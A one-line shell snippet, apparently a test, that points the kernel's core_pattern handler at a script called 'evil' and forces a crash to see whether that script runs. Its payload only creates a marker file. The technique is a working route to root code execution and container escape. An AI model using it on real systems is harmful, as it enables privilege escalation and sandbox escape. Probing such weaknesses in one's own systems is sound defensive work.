printf 'touch %s\n' "$mark" >evil; setting /proc/sys/kernel/core_pattern "|/bin/sh $PWD/evil" || exit; sh -c 'ulimit -c unlimited; kill -SEGV $$'; sleep 1; [ -e "$mark" ]
